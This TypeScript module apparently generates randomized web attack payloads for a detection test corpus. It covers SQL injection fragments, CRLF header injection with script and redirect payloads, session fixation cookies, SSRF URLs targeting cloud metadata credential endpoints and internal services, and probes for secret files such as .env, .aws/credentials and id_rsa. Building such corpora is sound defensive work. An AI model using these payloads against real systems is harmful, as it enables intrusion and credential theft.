/**
 * Web-layer families: SQL written without quotes or with keywords in odd places (function-call
 * fragments, vendor time/file functions, SQL in JSON arrays), CRLF/header injection, session
 * fixation, SSRF to cloud metadata in every address notation and container-internal names, and
 * probes for sensitive files left in the web root.
 */
import { repeatedUnitLength } from '../../../inspect/session-id-shape.js';
import type { AttackFamily, AttackPlace } from './family.js';
import { attackerHost, int, maybe, pick, randomCase, type Random } from './grammar.js';

function sqlFragment(random: Random): string {
  const n = int(random, 1, 9999);
  const t = int(random, 2, 15);
  const sp = pick([' ', ' ', ' ', '/**/', '+', '\t', '%0a'], random);
  const frag = pick([
    `${n} or 1`, `${n} and 1=1`, `${n} and ${n}=${n}`, `${n} or true`, `-${n} or ${n} between ${n - 1} and ${n + 1}`, `${n} xor 1`, `${n} || 1`, `${n} && 0`,
    `if(1=1,sleep(${t}),0)`, `(select*from(select(sleep(${t})))a)`, `${n} rlike (select (case when (1=1) then ${n} else 0x28 end))`, `elt(1,sleep(${t}))`,
    `extractvalue(rand(),concat(0x3a,version()))`, `updatexml(null,concat(0x2e,user()),null)`, `case when 1=1 then ${n} else 1/0 end`, `${n}||pg_sleep(${t})`,
    `${n};select pg_sleep(${t})`, `${n} procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`, `utl_inaddr.get_host_address((select banner from v$version where rownum=1))`,
    `dbms_pipe.receive_message(chr(65),${t})`, `${n} and randomblob(${int(random, 1, 9)}00000000)`, `load_file(0x2f6574632f706173737764)`, `@@version`, `${n} div 0`,
    `(select 1 from dual where 1=1)`, `${n} and exists(select*from users)`, `${n} and ascii(substr(database(),1,1))>${int(random, 60, 120)}`, `${n} and length(user())>${int(random, 1, 9)}`,
    `${n} order by ${int(random, 1, 30)}`, `${n} group by ${int(random, 1, 9)} having 1=1`, `${n}) or (1)=(1`, `${n}))or((1`, `max(${n})`, `${n}*(select 1)`, `convert(int,@@version)`,
    `cast(version() as int)`, `${n} and 1=(select count(*) from information_schema.tables)`, `sleep(${t})#`, `benchmark(${int(random, 1, 9)}000000,md5(1))`, `${n} waitfor delay '0:0:${t}'`.replace(/'/g, random() < 0.5 ? "'" : ''),
  ], random);
  const s = frag.replace(/ /g, sp);
  const tail = pick(['', '', '--', '#', '-- -', ';--', '/*'], random);
  const cased = random() < 0.3 ? randomCase(s, random) : s;
  if (random() < 0.15) return JSON.stringify([n, `${cased}${tail}`]);
  return `${cased}${tail}`;
}

function crlfInjection(random: Random): string {
  const nl = pick(['%0d%0a', '%0D%0A', '%0a', '\r\n', '\n', '%E5%98%8A%E5%98%8D', '%u000d%u000a', '%250d%250a', '%0d', '\\r\\n', '%%0a0a'], random);
  const header = pick([
    `Set-Cookie:${maybe(random, 0.5, ' ')}${pick(['session', 'sid', 'PHPSESSID', 'admin', 'x'], random)}=${pick(['1', 'fixed', 'true', `${int(random, 1000, 999999)}`], random)}`,
    `Location:${maybe(random, 0.5, ' ')}http://${attackerHost(random)}/`,
    `X-${pick(['Injected', 'Forwarded-For', 'Test', 'XSS-Protection'], random)}:${maybe(random, 0.5, ' ')}${pick(['1', '0', 'true', '127.0.0.1'], random)}`,
    `Content-Length:${maybe(random, 0.5, ' ')}0${nl}${nl}HTTP/1.1 200 OK${nl}Content-Type: text/html${nl}${nl}<script>alert(1)</script>`,
    `Access-Control-Allow-Origin: *`,
    `Content-Type: text/html${nl}${nl}<html>${pick(['pwned', '<svg onload=alert(1)>'], random)}`,
  ], random);
  return `${pick(['', '', '/', 'x', 'en', `${int(random, 1, 999)}`, 'https://example.com/'], random)}${nl}${header}${maybe(random, 0.3, nl)}`;
}

/**
 * A session id the attacker chose, so one the server never issued: short digits, a word and a number,
 * a short code, or a short unit repeated (issued ids are long and random). Drawn, never quoted, so no
 * id repeats across draws the way a fixed list's `ABC123` did.
 */
function chosenSessionId(random: Random): string {
  const alnum = (n: number, chars: string): string => Array.from({ length: n }, () => chars[int(random, 0, chars.length - 1)]).join('');
  switch (int(random, 0, 4)) {
    case 0:
      return String(int(random, 1000, 99999999));
    case 1:
      return `${pick(['attacker', 'fixed', 'evil', 'owned', 'pwn', 'test', 'session', 'hacker', 'x', 'sess'], random)}${maybe(random, 0.3, pick(['_', '-'], random))}${int(random, 0, 9999)}`;
    case 2:
      return alnum(int(random, 4, 12), random() < 0.5 ? 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789' : 'abcdefghijklmnopqrstuvwxyz0123456789');
    case 3:
      return alnum(int(random, 2, 8), '0123456789abcdef').repeat(int(random, 2, 6));
    default:
      return `${alnum(int(random, 1, 4), 'abcdefghijklmnopqrstuvwxyz')}${'0'.repeat(int(random, 3, 10))}${int(random, 1, 9)}`;
  }
}

function sessionFixation(random: Random): string {
  const id = chosenSessionId(random);
  const name = pick(['PHPSESSID', 'JSESSIONID', 'ASPSESSIONID', 'ASP.NET_SessionId', 'sessionid', 'sid', 'session_id', 'connect.sid', 'CFID', 'laravel_session'], random);
  const domain = `${pick(['', '', 'www.', 'app.', 'shop.'], random)}${pick(['example', 'target', 'victim', 'corp', 'portal', 'bank'], random)}.${pick(['com', 'test', 'net', 'org', 'io'], random)}`;
  return pick([
    () => `${name}=${id}`,
    () => `;${pick(['jsessionid', 'jsessionid', 'JSESSIONID', 'phpsessid'], random)}=${id}`,
    () => {
      const q = pick(['"', "'", '`'], random);
      return `document.cookie=${q}${name}=${id}; ${pick(['path=/; ', '', 'expires=Fri, 31 Dec 2038 23:59:59 GMT; '], random)}domain=.${domain}${q}`;
    },
    () => `<meta http-equiv="Set-Cookie" content="${name}=${id}${maybe(random, 0.5, `; domain=.${domain}`)}">`,
    () => `${pick(['%0d%0a', '%0a', '\r\n', '%0D%0A'], random)}Set-Cookie:${pick(['%20', ' ', ''], random)}${name}=${id}${maybe(random, 0.4, `;${pick(['%20', ' '], random)}Domain=.${domain}`)}`,
    () => `${pick(['x', 'a', 'lang', 'theme'], random)}=${int(random, 0, 9)}; ${name}=${id}`,
    () => `${name}=${id}; ${pick(['Domain', 'domain'], random)}=.${domain}; Path=/${maybe(random, 0.3, `; Max-Age=${int(random, 3600, 9999999)}`)}`,
  ], random)();
}

/** A bare Cookie string (`sid=4121353`, `x=3; session_id=evil3369`) whose session cookie has a generic name or is ColdFusion's CFID. */
const GENERIC_SESSION_COOKIE = /^(?:[\w.-]+=[^;\s]*; )?(sid|session_id|CFID)=([^;\s]+)$/;

/**
 * The Cookie place stands for the victim's request after the plant. A framework cookie betrays a
 * planted id by its shape (PHP, Java, ASP.NET, Express, Laravel and Django write 24 characters or
 * more, in known alphabets). A generic `sid` or `session_id` has no format to betray, and Adobe
 * ColdFusion issues CFID as sequential digits, so such a cookie is byte for byte what a signed-in
 * user sends: no stateless check can tell it, only the session guard, which knows the ids issued.
 * Those draws go where the attacker's own request carries the same text (the family's first place, a
 * parameter value). Ids no issuer writes stay in the Cookie header: a short unit repeated, a CFID
 * with a letter.
 */
function sessionFixationPlace(payload: string, place: AttackPlace): AttackPlace {
  if (place !== 'cookie') return place;
  const m = GENERIC_SESSION_COOKIE.exec(payload);
  if (m === null) return place;
  const issuable = m[1] === 'CFID' ? /^\d+$/.test(m[2]) : repeatedUnitLength(m[2]) === 0;
  return issuable ? 'query' : place;
}

/** 169.254.169.254 and friends in every notation a URL parser accepts. */
function metadataAddress(random: Random): string {
  const o = pick([[169, 254, 169, 254], [169, 254, 170, 2], [100, 100, 100, 200], [192, 0, 0, 192]], random);
  const n = ((o[0] << 24) >>> 0) + (o[1] << 16) + (o[2] << 8) + o[3];
  return pick([
    o.join('.'), String(n), `0x${n.toString(16)}`, o.map((x) => `0x${x.toString(16)}`).join('.'), o.map((x) => `0${x.toString(8)}`).join('.'),
    `${o[0]}.${o[1]}.${(o[2] << 8) + o[3]}`, `${o[0]}.${(o[1] << 16) + (o[2] << 8) + o[3]}`, `[::ffff:${o.join('.')}]`, `[::ffff:${((o[0] << 8) + o[1]).toString(16)}:${((o[2] << 8) + o[3]).toString(16)}]`,
    `${o.join('.')}.nip.io`, `${o.map((x) => x.toString(16).padStart(2, '0')).join('')}.${pick(['nip.io', 'sslip.io'], random)}`, '[fd00:ec2::254]', 'metadata.google.internal', 'metadata',
    'metadata.azure.com', 'instance-data', 'instance-data.ec2.internal', `0${o[0].toString(8)}.${o[1]}.0x${o[2].toString(16)}.${o[3]}`,
  ], random);
}

const METADATA_PATHS = ['/latest/meta-data/', '/latest/meta-data/iam/security-credentials/', '/latest/user-data', '/latest/api/token', '/computeMetadata/v1/?recursive=true', '/computeMetadata/v1/instance/service-accounts/default/token', '/metadata/instance?api-version=2021-02-01', '/metadata/v1/', '/v2/credentials/', '/openstack/latest/meta_data.json', '/opc/v2/instance/', '/latest/dynamic/instance-identity/document'];
const INTERNAL_SERVICES = ['kubernetes.default.svc', 'kubernetes.default.svc.cluster.local', 'host.docker.internal', 'gateway.docker.internal', 'localhost:2375', '127.0.0.1:10250', '127.0.0.1:2379', 'consul:8500', 'vault:8200', 'redis:6379', 'elasticsearch:9200', 'kube-dns.kube-system.svc.cluster.local', 'docker.for.mac.localhost', 'api.default.svc.cluster.local', 'admin.internal.svc.cluster.local'];

function ssrfMetadata(random: Random): string {
  const scheme = pick(['http://', 'http://', 'https://', 'gopher://', 'dict://', 'http:/\\', 'HTTP://', '//', 'http://foo@', 'http://[::]:80@'], random);
  if (random() < 0.3) {
    const svc = pick(INTERNAL_SERVICES, random);
    return `${scheme}${svc}${pick(['/', '/version', '/containers/json', '/api/v1/namespaces/default/secrets', '/v1/kv/?recurse', '/_cat/indices', '/pods', '/v1/secret/data/', '/_info'], random)}`;
  }
  const path = pick(METADATA_PATHS, random);
  const shaped = random() < 0.15 ? path.replace(/\//g, pick(['%2f', '/./', '//'], random)) : path;
  return `${scheme}${metadataAddress(random)}${maybe(random, 0.15, ':80')}${shaped}`;
}

const PROBE_DIRS = ['', '', '', 'admin/', 'app/', 'backup/', 'old/', 'public/', 'wp-content/', 'api/', 'src/', 'www/', 'static/', 'html/', 'site/', 'laravel/', 'config/'];
const DOTFILES = ['.env', '.env.local', '.env.production', '.env.bak', '.git/config', '.git/HEAD', '.git/index', '.git/logs/HEAD', '.gitconfig', '.svn/entries', '.svn/wc.db', '.hg/hgrc', '.bzr/branch-format', '.DS_Store', '.htpasswd', '.htaccess', '.aws/credentials', '.aws/config', '.ssh/id_rsa', '.ssh/authorized_keys', '.bash_history', '.zsh_history', '.mysql_history', '.npmrc', '.pypirc', '.netrc', '.pgpass', '.git-credentials', '.dockercfg', '.docker/config.json', '.kube/config', '.vscode/sftp.json', '.idea/workspace.xml', '.ftpconfig', '.s3cfg', '.terraform/terraform.tfstate', '.circleci/config.yml', '.boto'];
const BACKUP_BASES = ['index.php', 'wp-config.php', 'config.php', 'configuration.php', 'settings.py', 'web.config', 'database.yml', 'app.config', 'config.inc.php', 'LocalSettings.php', 'config.json', 'application.properties', 'db', 'site', 'backup', 'www', 'dump', 'database'];
const BACKUP_SUFFIXES = ['.bak', '.old', '.orig', '.save', '.swp', '~', '.backup', '.1', '.copy', '.tmp', '.txt', '.zip', '.tar.gz', '.sql', '.sql.gz', '.7z', '.rar', '_backup'];
const LOGS_AND_TOOLS = ['logs/error.log', 'log/access.log', 'error_log', 'debug.log', 'storage/logs/laravel.log', 'var/log/app.log', 'npm-debug.log', 'wp-content/debug.log', 'docker-compose.yml', 'Dockerfile', '.gitlab-ci.yml', '.travis.yml', 'Jenkinsfile', 'sftp-config.json', 'phpinfo.php', 'info.php', 'server-status', 'server-info', 'actuator/env', 'actuator/heapdump', 'actuator/configprops', 'WEB-INF/web.xml', 'composer.lock', 'package-lock.json', 'yarn.lock', 'Gemfile.lock', 'config/database.yml', 'config/secrets.yml', 'elmah.axd', 'trace.axd', 'phpmyadmin/setup/index.php', 'adminer.php', '_profiler/phpinfo', 'telescope/requests', 'debug/default/view', 'dump.rdb', 'id_rsa', 'credentials.json', 'secrets.yaml'];

function sensitiveFileProbe(random: Random): string {
  const dir = pick(PROBE_DIRS, random);
  switch (int(random, 0, 4)) {
    case 0:
    case 1:
      return `/${dir}${pick(DOTFILES, random)}`;
    case 2: {
      const base = pick(BACKUP_BASES, random);
      return `/${dir}${pick(['', '', '.', '#', '_'], random)}${base}${pick(BACKUP_SUFFIXES, random)}`;
    }
    case 3:
      return `/${dir}${pick(LOGS_AND_TOOLS, random)}`;
    default:
      return `/${dir}${pick(DOTFILES, random)}`.replace(/\//g, () => pick(['/', '/', '//', '/./', '/%2e/'], random)).replace(/^\/\/+/, '/');
  }
}

export const WEB_FAMILIES: readonly AttackFamily[] = [
  { name: 'sql-fragments', category: 'sqli', places: ['query', 'json', 'form'], make: sqlFragment },
  { name: 'crlf-header-injection', category: 'crlf', places: ['query', 'path', 'form'], make: crlfInjection },
  { name: 'session-fixation', category: 'session-fixation', places: ['query', 'path', 'cookie', 'form'], make: sessionFixation, placeFor: sessionFixationPlace },
  { name: 'ssrf-metadata', category: 'ssrf', places: ['query', 'json', 'form'], make: ssrfMetadata },
  { name: 'sensitive-file-probe', category: 'recon', places: ['path'], make: sensitiveFileProbe },
];
